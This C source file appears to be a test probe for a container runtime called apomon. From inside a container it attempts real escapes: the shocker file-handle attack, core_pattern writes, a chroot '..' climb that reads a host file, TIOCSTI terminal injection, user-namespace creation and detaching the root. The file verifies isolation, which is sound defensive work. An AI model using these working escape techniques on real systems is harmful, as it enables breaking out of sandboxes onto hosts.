/* SPDX-License-Identifier: MIT */
/*
 * escape-probe TECHNIQUE: tries one escape technique for real from inside
 * a station (the escape tests copy it in; static, so it runs in any root).
 * Prints one line saying what the kernel answered and exits 0 when the
 * technique got through (the call reached the kernel and did its work, or
 * failed for a reason other than being refused), 1 when it was refused,
 * 2 on a usage error.
 *
 *   shocker      open_by_handle_at(fd, <inode 2 of fd's file system>) on
 *                every descriptor held: the root directory of a host file
 *                system when fd is a host file
 *   core_pattern write /proc/sys/kernel/core_pattern (its own value back)
 *   masked       read a byte of /proc/kcore, /proc/keys, /proc/timer_list,
 *                /proc/sched_debug (those this kernel has)
 *   mount        mount a tmpfs on /mnt
 *   keyctl       ask for the session keyring
 *   bpf          create a BPF array map
 *   module       delete_module, finit_module
 *   reboot       reboot(CAD_ON): EINVAL in a PID namespace, EPERM refused
 *   clock        settimeofday(NULL, NULL): the CAP_SYS_TIME check only
 *   userns       unshare(CLONE_NEWUSER) and clone(CLONE_NEWUSER)
 *   personality  personality(ADDR_NO_RANDOMIZE)
 *   tiocsti      TIOCSTI "echo apomon-tiocsti-escape\n" into fds 0-2 and /dev/tty
 *   chroot [F]   the chroot escape: chroot into a directory, climb with "..",
 *                chroot "."; escaped when / is no longer the station's root
 *                (then prints the first line of F, a file of the host)
 *   umount       umount2("/", MNT_DETACH): uncover what is under the root
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <linux/reboot.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static int verdict(const char *what, long rc, int err, int refused_errno)
{
	if (rc >= 0) {
		printf("%s: ESCAPED (succeeded)\n", what);
		return 0;
	}
	if (err == refused_errno) {
		printf("%s: refused (%s)\n", what, strerror(err));
		return 1;
	}
	printf("%s: ESCAPED (reached the kernel: %s)\n", what, strerror(err));
	return 0;
}

static int shocker(void)
{
	struct {
		struct file_handle fh;
		unsigned int ino_gen[2];
	} h = {.fh = {.handle_bytes = 8, .handle_type = 1 /* FILEID_INO32_GEN */},
	       .ino_gen = {2, 0}};
	int escaped = 0, tried = 0, reopened = 0;
	DIR *procs = opendir("/proc");
	struct dirent *p;

	/* what the station's other processes hold, reopened through /proc */
	while (procs && (p = readdir(procs)) && reopened < 256) {
		char dir[300], path[600];
		DIR *fds;
		struct dirent *f;

		if (p->d_name[0] < '1' || p->d_name[0] > '9')
			continue;
		snprintf(dir, sizeof(dir), "/proc/%s/fd", p->d_name);
		fds = opendir(dir);
		while (fds && (f = readdir(fds))) {
			if (f->d_name[0] == '.')
				continue;
			snprintf(path, sizeof(path), "%s/%s", dir, f->d_name);
			if (open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY) >= 0)
				reopened++;
		}
		if (fds)
			closedir(fds);
	}
	if (procs)
		closedir(procs);
	printf("shocker: %d descriptors of the station's processes reopened\n", reopened);
	for (int fd = 0; fd < 1024; fd++) {
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		tried++;
		int r = (int)syscall(SYS_open_by_handle_at, fd, &h.fh, O_RDONLY | O_DIRECTORY);
		if (r < 0) {
			printf("shocker: fd %d: refused (%s)\n", fd, strerror(errno));
			continue;
		}
		DIR *d = fdopendir(r);
		struct dirent *e;
		printf("shocker: fd %d: ESCAPED: opened the root of its file system:", fd);
		for (int i = 0; d && (e = readdir(d)) && i < 8; i++)
			printf(" %s", e->d_name);
		printf("\n");
		if (d)
			closedir(d);
		escaped = 1;
	}
	if (!tried)
		printf("shocker: no descriptor to try\n");
	return escaped ? 0 : 1;
}

static int core_pattern(void)
{
	char buf[256];
	int fd = open("/proc/sys/kernel/core_pattern", O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof(buf));

	if (fd >= 0)
		close(fd);
	if (n <= 0)
		return verdict("core_pattern: read", -1, errno, 0);
	fd = open("/proc/sys/kernel/core_pattern", O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return verdict("core_pattern: open for writing", -1, errno, errno);
	/* its own value: the host stays as it was even when this gets through */
	long w = write(fd, buf, (size_t)n);
	int err = errno;
	close(fd);
	return verdict("core_pattern: write", w, err, err);
}

static int masked(void)
{
	static const char *const files[] = {"/proc/kcore", "/proc/keys", "/proc/timer_list",
					    "/proc/sched_debug"};
	int escaped = 0;

	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		char c;
		int fd = open(files[i], O_RDONLY | O_CLOEXEC);
		if (fd < 0) {
			printf("%s: %s\n", files[i], strerror(errno));
			continue;
		}
		long n = read(fd, &c, 1);
		int err = errno;
		close(fd);
		if (n == 0)
			printf("%s: refused (empty: masked)\n", files[i]);
		else if (verdict(files[i], n, err, err) == 0)
			escaped = 1;
	}
	return escaped ? 0 : 1;
}

static int mount_tmpfs(void)
{
	long r = mount("none", "/mnt", "tmpfs", 0, "size=16k");
	int err = errno;
	if (r == 0)
		umount2("/mnt", MNT_DETACH);
	return verdict("mount", r, err, EPERM);
}

/* The station's root detached from its mount namespace, to reach what
 * is under it (last in a run: a station that lets it through has lost
 * its root for every later `apomon exec`) */
static int umount_root(void)
{
	long r = umount2("/", MNT_DETACH);
	return verdict("umount", r, errno, EPERM);
}

/* The classic chroot escape, with the CAP_SYS_CHROOT a station keeps:
 * chroot into a directory while the working directory stays outside it,
 * climb with "..", which stops only at the process's root, and chroot
 * there.  Escaped when / is then another directory than the station's
 * root; prints what that / holds. */
static int chroot_escape(const char *host_file)
{
	const char *d = "/tmp/.apomon-chroot-escape";
	struct stat before, after;
	DIR *dir;
	struct dirent *e;
	int n = 0;

	if (stat("/", &before) < 0 || (mkdir(d, 0700) < 0 && errno != EEXIST)) {
		printf("chroot: setup: %s\n", strerror(errno));
		return 2;
	}
	if (chdir("/") < 0 || chroot(d) < 0)
		return verdict("chroot", -1, errno, EPERM);
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0 || chdir("/") < 0 || stat("/", &after) < 0) {
		printf("chroot: refused (chroot(\".\"): %s)\n", strerror(errno));
		return 1;
	}
	if (after.st_dev == before.st_dev && after.st_ino == before.st_ino) {
		printf("chroot: refused (the climb ended on the station's own root)\n");
		return 1;
	}
	printf("chroot: ESCAPED (/ is now dev %u:%u inode %lu, not the station's root; it holds:",
	       major(after.st_dev), minor(after.st_dev), (unsigned long)after.st_ino);
	if ((dir = opendir("/"))) {
		while ((e = readdir(dir)) && n < 40)
			if (e->d_name[0] != '.' && ++n)
				printf(" %s", e->d_name);
		closedir(dir);
	}
	printf(")\n");
	/* a file the test left on the host, read from there */
	if (host_file) {
		char line[128] = "";
		FILE *f = fopen(host_file, "re");
		if (f && fgets(line, sizeof(line), f))
			printf("chroot: read the host's %s: %s", host_file, line);
		if (f)
			fclose(f);
	}
	return 0;
}

static int chroot_any(void)
{
	return chroot_escape(NULL);
}

static int keyctl(void)
{
	long r = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
	return verdict("keyctl", r, errno, EPERM);
}

static int bpf_map(void)
{
	union bpf_attr a;
	memset(&a, 0, sizeof(a));
	a.map_type = BPF_MAP_TYPE_ARRAY;
	a.key_size = 4;
	a.value_size = 4;
	a.max_entries = 1;
	long r = syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof(a));
	int err = errno;
	if (r >= 0)
		close((int)r);
	return verdict("bpf", r, err, EPERM);
}

static int module(void)
{
	long r = syscall(SYS_delete_module, "apomon_no_such_module", O_NONBLOCK);
	int a = verdict("delete_module", r, errno, EPERM);
	int fd = open("/dev/null", O_RDONLY | O_CLOEXEC);
	r = syscall(SYS_finit_module, fd, "", 0);
	int b = verdict("finit_module", r, errno, EPERM);
	return a == 0 || b == 0 ? 0 : 1;
}

static int reboot_cad(void)
{
	long r = syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2,
			 LINUX_REBOOT_CMD_CAD_ON, NULL);
	return verdict("reboot", r, errno, EPERM);
}

static int clock_set(void)
{
	long r = syscall(SYS_settimeofday, NULL, NULL);
	return verdict("settimeofday", r, errno, EPERM);
}

static int userns(void)
{
	int a, b, st;
	pid_t p = fork();

	if (p == 0)
		_exit(unshare(CLONE_NEWUSER) == 0 ? 0 : errno);
	waitpid(p, &st, 0);
	a = verdict("unshare(CLONE_NEWUSER)", WEXITSTATUS(st) ? -1 : 0, WEXITSTATUS(st), EPERM);
	long c = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, NULL, NULL, NULL, 0);
	if (c == 0)
		_exit(0);
	int err = errno;
	if (c > 0)
		waitpid((pid_t)c, NULL, 0);
	b = verdict("clone(CLONE_NEWUSER)", c, err, EPERM);
	/* a C library that tries clone3 first must fall back */
	long c3 = syscall(SYS_clone3, NULL, 0);
	printf("clone3: %s\n", c3 < 0 ? strerror(errno) : "succeeded");
	return a == 0 || b == 0 ? 0 : 1;
}

static int persona(void)
{
	int old = personality(0xffffffff);
	if (old < 0) {
		printf("personality: query refused (%s)\n", strerror(errno));
		return 2;
	}
	long r = personality((unsigned long)old | ADDR_NO_RANDOMIZE);
	int err = errno;
	if (r >= 0)
		personality((unsigned long)old);
	return verdict("personality(ADDR_NO_RANDOMIZE)", r, err, EPERM);
}

static int tiocsti(void)
{
	static const char cmd[] = "echo apomon-tiocsti-escape\n";
	int escaped = 0, tty = open("/dev/tty", O_RDWR | O_CLOEXEC);
	int fds[] = {0, 1, 2, tty};

	for (size_t i = 0; i < sizeof(fds) / sizeof(fds[0]); i++) {
		size_t k;
		if (fds[i] < 0) {
			printf("tiocsti: /dev/tty: %s\n", strerror(errno));
			continue;
		}
		for (k = 0; k < sizeof(cmd) - 1; k++)
			if (ioctl(fds[i], TIOCSTI, &cmd[k]) < 0)
				break;
		if (k == sizeof(cmd) - 1) {
			printf("tiocsti: fd %d: ESCAPED (typed into its terminal)\n", fds[i]);
			escaped = 1;
		} else {
			printf("tiocsti: fd %d: refused (%s)\n", fds[i], strerror(errno));
		}
	}
	return escaped ? 0 : 1;
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		int (*fn)(void);
	} t[] = {
	    {"shocker", shocker},     {"core_pattern", core_pattern},
	    {"masked", masked},	      {"mount", mount_tmpfs},
	    {"keyctl", keyctl},	      {"bpf", bpf_map},
	    {"module", module},	      {"reboot", reboot_cad},
	    {"clock", clock_set},     {"userns", userns},
	    {"personality", persona}, {"tiocsti", tiocsti},
	    {"chroot", chroot_any},   {"umount", umount_root},
	};

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 3 && !strcmp(argv[1], "chroot"))
		return chroot_escape(argv[2]);
	for (size_t i = 0; argc == 2 && i < sizeof(t) / sizeof(t[0]); i++)
		if (!strcmp(argv[1], t[i].name))
			return t[i].fn();
	fprintf(stderr, "usage: escape-probe TECHNIQUE\n");
	return 2;
}
